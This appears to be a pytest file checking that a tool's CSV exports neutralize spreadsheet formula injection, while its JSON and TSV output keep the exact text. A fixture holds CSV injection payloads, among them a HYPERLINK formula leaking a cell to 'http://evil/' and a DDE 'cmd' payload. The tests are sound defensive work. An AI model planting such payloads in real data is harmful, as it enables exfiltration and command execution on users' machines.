"""CSV is for spreadsheets (SPEC section 7): a cell starting with =, +, -, @, a tab or a
carriage return gets a leading ' so that no spreadsheet runs it as a formula, in `users list
--format csv`, `audit --format csv` and the TUI's `e` to a .csv; JSON and TSV keep the
exact text (TSV with control characters escaped)."""

from __future__ import annotations

import csv
import io
import json

import pytest

from tests.helpers import cli
from tui.cli.table_output import csv_cell
from tui.screens.export import write_table

HOSTILE = {
    "formula": '=HYPERLINK("http://evil/?x="&A1,"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1,2)",
    "tab": "\t=1",
    "cr": "\r=1",
    "plain": "Ann = fine",
}


@pytest.fixture(scope="module")
def db(tmp_path_factory) -> str:
    path = str(tmp_path_factory.mktemp("csv") / "m.sqlite")
    assert cli("init-db", path).returncode == 0
    for key, name in HOSTILE.items():
        if key in ("tab", "cr"):
            continue  # a name holds no control character (SPEC 1): the TUI export's test has them
        proc = cli("users", "add", key, f"--name={name}", "--db", path, f"--reason={name}")
        assert proc.returncode == 0, proc.stderr
    return path


def names_of(rows: list[list[str]]) -> dict[str, str]:
    return {r[0]: r[1] for r in rows[1:]}


def test_users_list_csv_neutralizes_formulas_and_json_keeps_them(db):
    rows = list(csv.reader(io.StringIO(cli("users", "list", "--format", "csv", "--db", db).stdout)))
    shown = names_of(rows)
    for key in ("formula", "plus", "minus", "at"):
        assert shown[key] == "'" + HOSTILE[key], key
    assert shown["plain"] == HOSTILE["plain"]
    exact = {u["key"]: u["name"] for u in json.loads(cli("users", "list", "--format", "json", "--db", db).stdout)}
    assert all(exact[k] == HOSTILE[k] for k in exact)
    tsv = cli("users", "list", "--format", "tsv", "--db", db).stdout
    assert "\tformula\t" not in tsv and f"formula\t{HOSTILE['formula']}\t" in tsv  # exact in TSV


def test_audit_csv_neutralizes_reasons_and_json_keeps_them(db):
    proc = cli("audit", "--format", "csv", "--db", db)
    assert proc.returncode == 0, proc.stderr
    header, *events = list(csv.reader(io.StringIO(proc.stdout)))
    assert header == ["at", "action", "phase", "target", "by", "reason", "result"]
    reasons = {e[3]: e[5] for e in events}
    for key in ("formula", "plus", "minus", "at"):
        assert reasons[key] == "'" + HOSTILE[key], key
    exact = {json.loads(line)["target"]: json.loads(line)["reason"]
             for line in cli("audit", "--json", "--db", db).stdout.splitlines()}
    assert exact["formula"] == HOSTILE["formula"]


def test_the_tui_export_neutralizes_csv_and_keeps_json_exact(tmp_path):
    rows = [[key, name] for key, name in HOSTILE.items()]
    assert write_table(str(tmp_path / "t.csv"), ["key", "name"], rows) == len(rows)
    assert write_table(str(tmp_path / "t.json"), ["key", "name"], rows) == len(rows)
    shown = dict(list(csv.reader((tmp_path / "t.csv").open(newline="")))[1:])
    assert shown == {k: ("'" + v if k != "plain" else v) for k, v in HOSTILE.items()}
    assert {o["key"]: o["name"] for o in json.loads((tmp_path / "t.json").read_text())} == HOSTILE


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@a", "\tx", "\rx"])
def test_each_formula_start(text):
    assert csv_cell(text) == "'" + text
    assert csv_cell("a" + text) == "a" + text
